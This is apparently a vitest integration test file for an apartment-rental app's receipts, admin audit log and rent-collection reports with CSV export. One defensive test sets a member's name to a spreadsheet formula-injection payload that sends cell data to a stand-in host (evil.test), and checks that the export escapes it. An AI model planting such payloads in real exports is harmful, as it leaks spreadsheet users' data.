/** Receipts, the audit log and the rent-collection report, through the real HTTP stack. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestApi, type TestApi } from '../../support/api.ts';
import { monthsAgo, thisMonth, today } from '../../support/months.ts';
import { formatMonth } from '../../../domain/shared/month.ts';

const CARD = { number: '4242424242424242', expMonth: 12, expYear: 2099, cvc: '123' };
let api: TestApi;
let admin: string;
let adminEmail: string;

beforeAll(async () => {
  api = await startTestApi();
  admin = await api.admin('records-admin');
  adminEmail = (await api.call('PUT', '/api/users', { token: admin, body: { name: 'Records Admin' } })).body.email;
});
afterAll(() => api?.close());

async function pay(token: string, month: string, couponCode?: string) {
  const rent = (await api.call('GET', '/api/agreements/user', { token })).body.rent;
  const discount = couponCode
    ? (await api.call('GET', `/api/payments/coupon/${couponCode}`, { token })).body.discountPercentage
    : 0;
  const intent = await api.call('POST', '/api/payments/create-payment-intent', {
    token,
    body: { amount: Math.round(rent * (100 - discount)), month, couponCode },
  });
  const confirmed = await api.call('POST', '/api/payments/sandbox/confirm', {
    token,
    body: { clientSecret: intent.body.clientSecret, card: CARD },
  });
  const recorded = await api.call('POST', '/api/payments', {
    token,
    body: { transactionId: confirmed.body.paymentIntent.id, month },
  });
  expect(recorded.status).toBe(201);
  return recorded.body;
}

describe('receipts', () => {
  it('numbers each payment and shows its receipt to the payer and admins only', async () => {
    const member = await api.member('receipt-owner', { since: 12 });
    const first = await pay(member, monthsAgo(10), 'WELCOME10');
    const second = await pay(member, monthsAgo(9));
    expect(second.receiptNumber).toBe(first.receiptNumber + 1);

    const receipt = await api.call('GET', `/api/payments/receipts/${first.receiptNumber}`, { token: member });
    expect(receipt.status).toBe(200);
    expect(receipt.body).toMatchObject({
      receiptNumber: first.receiptNumber,
      buildingName: 'Lakeview Residency',
      buildingAddress: 'Dhaka, Bangladesh',
      month: formatMonth(monthsAgo(10)),
      monthKey: monthsAgo(10),
      rent: first.rent,
      discount: 10,
      totalPaid: first.rent * 0.9,
      transactionId: first.transactionId,
    });
    expect((await api.call('GET', `/api/payments/receipts/${first.receiptNumber}`, { token: admin })).status).toBe(200);
    const stranger = await api.member('receipt-stranger', { since: 12 });
    const refused = await api.call('GET', `/api/payments/receipts/${first.receiptNumber}`, { token: stranger });
    expect(refused.status).toBe(404);
    expect(refused.body.code).toBe('PAYMENT.RECEIPT_NOT_FOUND');
    expect((await api.call('GET', '/api/payments/receipts/abc', { token: member })).status).toBe(400);
    const history = (await api.call('GET', '/api/payments/user', { token: member })).body;
    expect(history.map((p: { receiptNumber: number }) => p.receiptNumber).sort()).toEqual([
      first.receiptNumber,
      second.receiptNumber,
    ]);
  });

  it("shows the building's name and address as the admin saved them", async () => {
    const member = await api.member('receipt-building', { since: 3 });
    const paid = await pay(member, monthsAgo(2));
    const { version } = (await api.call('GET', '/api/building')).body;
    const saved = await api.call('PUT', '/api/admin/building', {
      token: admin,
      body: {
        name: 'Gulshan Heights',
        address: 'House 7, Road 90, Gulshan 2, Dhaka 1212',
        latitude: 23.79,
        longitude: 90.41,
        phone: '+880 2-9881234',
        email: 'office@gulshan.example',
        emergencyPhone: '01711-000000',
        version,
      },
    });
    expect(saved.status).toBe(200);
    const receipt = await api.call('GET', `/api/payments/receipts/${paid.receiptNumber}`, { token: member });
    expect(receipt.body).toMatchObject({
      buildingName: 'Gulshan Heights',
      buildingAddress: 'House 7, Road 90, Gulshan 2, Dhaka 1212',
    });
  });
});

describe('audit log', () => {
  it('records every admin action with who, what and the change, newest first, and can be filtered', async () => {
    const applicant = await api.user('audited');
    const free = (await api.call('GET', '/api/apartments?limit=50')).body.apartments.find(
      (a: { available: boolean }) => a.available,
    );
    const request = (await api.call('POST', '/api/agreements', { token: applicant, body: { apartmentId: free._id } }))
      .body;
    await api.call('PATCH', `/api/agreements/${request._id}`, { token: admin, body: { action: 'accept' } });
    await api.call('POST', '/api/admin/coupons', {
      token: admin,
      body: { code: 'AUDIT7', discountPercentage: 7, description: 'Audited' },
    });
    await api.call('PATCH', '/api/admin/coupons/AUDIT7/toggle', { token: admin });
    await api.call('POST', '/api/admin/announcements', {
      token: admin,
      body: { title: 'Audited notice', description: 'Hello' },
    });
    const applicantEmail = request.userEmail;
    await api.call('PATCH', `/api/admin/members/${encodeURIComponent(applicantEmail)}/demote`, { token: admin });

    const log = (await api.call('GET', '/api/admin/audit-log', { token: admin })).body;
    const mine = log.entries.filter((e: { actor: string }) => e.actor === adminEmail);
    expect(mine.slice(0, 5).map((e: { action: string }) => e.action)).toEqual([
      'member.remove',
      'announcement.post',
      'coupon.toggle',
      'coupon.add',
      'agreement.accept',
    ]);
    expect(mine[2]).toMatchObject({ subject: 'AUDIT7', before: { isActive: true }, after: { isActive: false } });
    expect(mine[0]).toMatchObject({ subject: applicantEmail, before: { role: 'member' }, after: { role: 'user' } });
    expect(log.pageSize).toBe(20);

    const toggles = (await api.call('GET', '/api/admin/audit-log?action=coupon.toggle', { token: admin })).body;
    expect(toggles.entries.length).toBeGreaterThan(0);
    expect(toggles.entries.every((e: { action: string }) => e.action === 'coupon.toggle')).toBe(true);
    expect((await api.call('GET', '/api/admin/audit-log?action=delete.everything', { token: admin })).status).toBe(400);
  });

  it('cannot be edited or deleted through the API', async () => {
    for (const method of ['PUT', 'PATCH', 'DELETE', 'POST']) {
      const res = await api.call(method, '/api/admin/audit-log', {
        token: admin,
        ...(method === 'DELETE' ? {} : { body: {} }),
      });
      expect(res.status, method).toBe(405);
    }
  });
});

describe('rent collection', () => {
  it('shows who paid the month, with totals, and the same as CSV', async () => {
    const own = await startTestApi();
    try {
      const boss = await own.admin('collector');
      const payer1 = await own.member('payer-one');
      const payer2 = await own.member('payer-two');
      await own.member('not-yet');
      const rentOf = async (token: string) =>
        (await own.call('GET', '/api/agreements/user', { token })).body.rent as number;
      const payOwn = async (token: string, couponCode?: string) => {
        const rent = await rentOf(token);
        const discount = couponCode ? 10 : 0;
        const intent = await own.call('POST', '/api/payments/create-payment-intent', {
          token,
          body: { amount: rent * (100 - discount), month: thisMonth(), couponCode },
        });
        const confirmed = await own.call('POST', '/api/payments/sandbox/confirm', {
          token,
          body: { clientSecret: intent.body.clientSecret, card: CARD },
        });
        await own.call('POST', '/api/payments', {
          token,
          body: { transactionId: confirmed.body.paymentIntent.id, month: thisMonth() },
        });
        return rent;
      };
      const rent1 = await payOwn(payer1, 'WELCOME10');
      const rent2 = await payOwn(payer2);

      const report = await own.call(
        'GET',
        `/api/admin/rent-collection?month=${encodeURIComponent(formatMonth(thisMonth()))}`,
        { token: boss },
      );
      expect(report.status).toBe(200);
      expect(report.body.month).toBe(thisMonth());
      expect(report.body.rows).toHaveLength(3);
      expect(report.body.rows.filter((r: { paid: boolean }) => r.paid)).toHaveLength(2);
      const unpaid = report.body.rows.find((r: { paid: boolean }) => !r.paid);
      expect(unpaid.receiptNumber).toBeNull();
      // Each paid row leads to its payment's receipt, which the admin can open.
      for (const row of report.body.rows.filter((r: { paid: boolean }) => r.paid)) {
        const receipt = await own.call('GET', `/api/payments/receipts/${row.receiptNumber}`, { token: boss });
        expect(receipt.status).toBe(200);
        expect(receipt.body).toMatchObject({
          memberEmail: row.memberEmail,
          month: formatMonth(thisMonth()),
          totalPaid: row.amountPaid,
        });
      }
      const expected = report.body.rows.reduce((sum: number, r: { rentDue: number }) => sum + r.rentDue, 0);
      expect(report.body.totals).toEqual({
        members: 3,
        paidMembers: 2,
        expected,
        collected: rent1 * 0.9 + rent2,
        outstanding: unpaid.rentDue,
        collectionRate: Math.round(((expected - unpaid.rentDue) / expected) * 10_000) / 100,
      });

      const res = await fetch(`${own.url}/api/admin/rent-collection/csv?month=${thisMonth()}`, {
        headers: { authorization: `Bearer ${boss}` },
      });
      expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(res.headers.get('content-disposition')).toContain(`rent-collection-${thisMonth()}.csv`);
      const bytes = new Uint8Array(await res.arrayBuffer());
      expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]); // the UTF-8 byte-order mark spreadsheets look for
      const lines = new TextDecoder().decode(bytes).split('\r\n');
      expect(lines.slice(0, 3)).toEqual([
        `Month,${formatMonth(thisMonth())}`,
        '',
        'Member,Email,Block,Floor,Apartment,Rent due (BDT),Paid,Amount paid (BDT),Paid on,Method',
      ]);
      const dataRows = lines.slice(3, 6).map((l) => l.split(','));
      expect(dataRows.map((r) => r[9]).sort()).toEqual(['', 'card', 'card']);
      expect(dataRows.map((r) => r[6]).sort()).toEqual(['no', 'yes', 'yes']);
      expect(dataRows.find((r) => r[6] === 'no')![7]).toBe('0');
      expect(lines).toContain(`Expected (BDT),${expected}`);
      expect(lines).toContain(`Collected (BDT),${rent1 * 0.9 + rent2}`);
      expect(lines).toContain(`Outstanding (BDT),${unpaid.rentDue}`);
      expect((await own.call('GET', '/api/admin/rent-collection?month=soon', { token: boss })).status).toBe(400);
    } finally {
      await own.close();
    }
  });

  it('counts rent paid at the desk as the books show it: paid in cash, part paid by bKash', async () => {
    const own = await startTestApi();
    try {
      const boss = await own.admin('desk-collector');
      const cash = await own.member('desk-cash');
      const half = await own.member('desk-half');
      const leaseOf = async (token: string) =>
        (await own.call('GET', '/api/agreements/user', { token })).body as {
          _id: string;
          userEmail: string;
          rent: number;
        };
      const [cashLease, halfLease] = [await leaseOf(cash), await leaseOf(half)];
      const record = (leaseId: string, body: object) =>
        own.call('POST', `/api/admin/books/${leaseId}/payments`, { token: boss, body });
      const paidCash = await record(cashLease._id, { amount: cashLease.rent, paidOn: today(), method: 'cash' });
      expect(paidCash.status).toBe(201);
      const paidHalf = await record(halfLease._id, {
        amount: halfLease.rent / 2,
        paidOn: today(),
        method: 'bkash',
        reference: 'BK-HALF-1',
      });
      expect(paidHalf.status).toBe(201);

      const report = await own.call('GET', `/api/admin/rent-collection?month=${thisMonth()}`, { token: boss });
      expect(report.status).toBe(200);
      const rowOf = (email: string) =>
        report.body.rows.find((r: { memberEmail: string }) => r.memberEmail === email) as Record<string, unknown>;
      expect(rowOf(cashLease.userEmail)).toMatchObject({
        paid: true,
        state: 'paid',
        amountPaid: cashLease.rent,
        method: 'cash',
        paidOn: today(),
        receiptNumber: paidCash.body.receiptNumber,
      });
      expect(rowOf(halfLease.userEmail)).toMatchObject({
        paid: false,
        state: 'part-paid',
        amountPaid: halfLease.rent / 2,
        method: 'bkash',
        paidOn: today(),
        receiptNumber: paidHalf.body.receiptNumber,
      });
      // The row's receipt is the recorded payment's.
      const receipt = await own.call('GET', `/api/payments/receipts/${rowOf(cashLease.userEmail).receiptNumber}`, {
        token: boss,
      });
      expect(receipt.body).toMatchObject({ method: 'cash', totalPaid: cashLease.rent });
      expect(report.body.totals).toEqual({
        members: 2,
        paidMembers: 1,
        expected: cashLease.rent + halfLease.rent,
        collected: cashLease.rent + halfLease.rent / 2,
        outstanding: halfLease.rent / 2,
        collectionRate:
          Math.round(((cashLease.rent + halfLease.rent / 2) / (cashLease.rent + halfLease.rent)) * 10_000) / 100,
      });

      const csv = await fetch(`${own.url}/api/admin/rent-collection/csv?month=${thisMonth()}`, {
        headers: { authorization: `Bearer ${boss}` },
      });
      const lines = (await csv.text()).replace(/^\uFEFF/, '').split('\r\n');
      expect(lines.find((l) => l.includes(cashLease.userEmail))).toMatch(
        new RegExp(`,${cashLease.rent},yes,${cashLease.rent},${today()},cash$`),
      );
      expect(lines.find((l) => l.includes(halfLease.userEmail))).toMatch(
        new RegExp(`,${halfLease.rent},no,${halfLease.rent / 2},${today()},bKash$`),
      );
    } finally {
      await own.close();
    }
  });
});

describe('CSV formula injection', () => {
  it('writes a member whose name is a formula as text in the rent collection CSV', async () => {
    const own = await startTestApi();
    try {
      const boss = await own.admin('csv-boss');
      const formula = '=HYPERLINK("http://evil.test/?x="&A1,"Pay here")';
      const eve = await own.user('csv-eve');
      expect((await own.call('PUT', '/api/users', { token: eve, body: { name: formula } })).status).toBe(200);
      const { apartments } = (await own.call('GET', '/api/apartments?limit=50')).body;
      const free = apartments.find((a: { available: boolean }) => a.available);
      const applied = await own.call('POST', '/api/agreements', { token: eve, body: { apartmentId: free._id } });
      expect(applied.status).toBe(201);
      expect(
        (await own.call('PATCH', `/api/agreements/${applied.body._id}`, { token: boss, body: { action: 'accept' } }))
          .status,
      ).toBe(200);

      const res = await fetch(`${own.url}/api/admin/rent-collection/csv?month=${thisMonth()}`, {
        headers: { authorization: `Bearer ${boss}` },
      });
      expect(res.status).toBe(200);
      const lines = (await res.text()).replace(/^\uFEFF/, '').split('\r\n');
      const row = lines.find((l) => l.includes('evil.test'));
      expect(row).toBeDefined();
      expect(row!.startsWith(`"'=HYPERLINK(""http://evil.test/?x=""&A1,""Pay here"")",`)).toBe(true);
      // Amounts stay plain numbers a spreadsheet can add up.
      expect(row!.split(',').at(-5)).toMatch(/^\d+$/);
    } finally {
      await own.close();
    }
  });
});
